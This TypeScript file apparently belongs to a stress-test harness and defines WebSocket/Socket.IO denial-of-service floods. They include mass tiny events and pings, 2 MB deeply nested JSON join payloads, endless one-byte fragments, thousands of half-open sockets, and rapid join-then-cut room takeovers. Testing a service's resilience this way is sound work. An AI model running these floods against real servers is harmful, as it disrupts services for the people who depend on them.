import { setTimeout as delay } from 'node:timers/promises'
import { frame } from '../harness/websocket-frame.ts'
import { holdUntil, openMany, openNext, PAUSE_MS, repeat, type Flood, type FloodTarget } from './flood.ts'
import { RawSocket } from './raw-socket.ts'

const BLOCK_EVENTS = 3000
const FRAGMENT_SOCKETS = 300
const FRAGMENTS = 16_000
const HALF_OPEN_SOCKETS = 3000
const LARGE_SOCKETS = 16
const JOINERS = 16

/** Opens a socket that comes from the attacker. */
export async function openSocket({ url, from }: FloodTarget): Promise<RawSocket | undefined> {
  return await RawSocket.open(url, undefined, from)
}

/** Sends the same bytes over new sockets again and again. */
function pourAgain(bytes: Buffer, atOnce = 1, connects = true): Flood {
  return async (target) =>
    await repeat(atOnce, target.until, async () => {
      const outcome = { opened: 0, stopped: 0 }
      const socket = await openNext(() => openSocket(target), outcome)
      if (!socket) return outcome
      if (connects) socket.connect()
      await socket.pour(bytes, target.until)
      if (!socket.isOpen) outcome.stopped += 1
      socket.cut()
      return outcome
    })
}

/** Events of 20 bytes that ask for no answer. */
const tinyEvents = pourAgain(Buffer.concat(Array(BLOCK_EVENTS).fill(frame({ payload: '42["abcdef",1234]' }))))

/** WebSocket pings, each of which the library answers. */
const pings = pourAgain(Buffer.concat(Array(BLOCK_EVENTS).fill(frame({ opcode: 9 }))))

/** Sixteen events of 2 MB that are expensive to parse, from sockets that have not joined. */
const largeEvents = pourAgain(
  frame({ payload: `42["room:join",${'[{"a":1},'.repeat(190_000)}0${']'.repeat(190_000)}]` }),
  LARGE_SOCKETS,
)

/** Messages in fragments of one byte that never end. */
const fragments: Flood = async (target) => {
  const begin = frame({ fin: false, payload: 'x' })
  const go = Buffer.concat(Array(FRAGMENTS).fill(frame({ opcode: 0, fin: false, payload: 'x' })))
  return await repeat(1, target.until, async () => {
    const sockets = await openMany(() => openSocket(target), FRAGMENT_SOCKETS, target.until)
    for (const socket of sockets.opened) {
      socket.write(begin)
      socket.write(go)
    }
    return await holdUntil(sockets, target.until)
  })
}

/** Sockets that never say what a Socket.IO client says first. */
const halfOpen: Flood = async (target) =>
  await holdUntil(await openMany(() => openSocket(target), HALF_OPEN_SOCKETS, target.until), target.until)

/** Takes rooms over lines that are cut at once, so that each seat waits for its owner. */
const joinCutRepeat: Flood = async (target) =>
  await repeat(JOINERS, target.until, async () => {
    const outcome = { opened: 0, stopped: 0 }
    const socket = await openNext(() => openSocket(target), outcome)
    if (!socket) return outcome
    socket.connect()
    if (await socket.connected()) {
      const room = `flood-${target.choices.below(1e9)}`
      const { rtpCapabilities } = target
      const join = socket.emit('room:join', { room, name: 'Mallory', rtpCapabilities })
      if (!(await socket.answer(join))) outcome.stopped += 1
    } else {
      outcome.stopped += 1
    }
    socket.cut()
    await delay(PAUSE_MS)
    return outcome
  })

/** Attacks over WebSockets. */
export const SOCKET_FLOODS = { tinyEvents, pings, largeEvents, fragments, halfOpen, joinCutRepeat }
